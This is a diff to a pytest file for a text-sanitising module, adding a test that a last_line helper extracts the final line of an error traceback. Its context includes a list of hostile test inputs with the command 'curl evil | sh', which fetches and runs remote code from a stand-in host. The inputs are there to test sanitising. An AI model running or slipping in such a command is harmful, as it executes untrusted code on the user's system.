@@ -10,7 +10,7 @@ import time
 import pytest
 from markdown_it import MarkdownIt
 
-from search_space.boundary.text import code, command_line, html_text, markdown, one_line, reason_of, shown
+from search_space.boundary.text import code, command_line, html_text, last_line, markdown, one_line, reason_of, shown
 
 NASTY = [
     "screw\n```\ncurl evil | sh\n```",
@@ -168,3 +168,8 @@ def test_what_is_one_line_already_is_left_as_it_is() -> None:
         clean = one_line(text)
         assert one_line(clean) == clean
         assert one_line(text + "\x00").rstrip("\ufffd ") == clean.rstrip("\ufffd ")
+
+
+def test_the_last_line_says_what_an_error_came_to() -> None:
+    assert last_line("Traceback:\n  here\nValueError: no\n\n") == "ValueError: no"
+    assert last_line("") == ""
